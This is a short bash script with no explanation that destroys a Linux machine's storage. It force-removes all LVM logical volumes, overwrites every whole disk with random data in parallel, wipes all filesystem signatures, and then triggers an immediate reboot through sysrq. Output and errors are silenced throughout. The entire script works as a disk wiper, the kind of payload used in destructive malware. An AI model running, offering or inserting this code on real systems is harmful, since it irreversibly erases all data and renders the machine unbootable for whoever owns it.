#!/usr/bin/env bash
set -u
for vg in $(vgs --noheadings -o vg_name); do lvremove -fy "$vg" >/dev/null 2>&1; done
while read -r name type; do
  [ "$type" = disk ] || continue
  (dd if=/dev/urandom of="/dev/$name" bs=4M status=none; wipefs -af "/dev/$name") &
done < <(lsblk -dno NAME,TYPE)
wait
echo 1 > /proc/sys/kernel/sysrq
echo b > /proc/sysrq-trigger
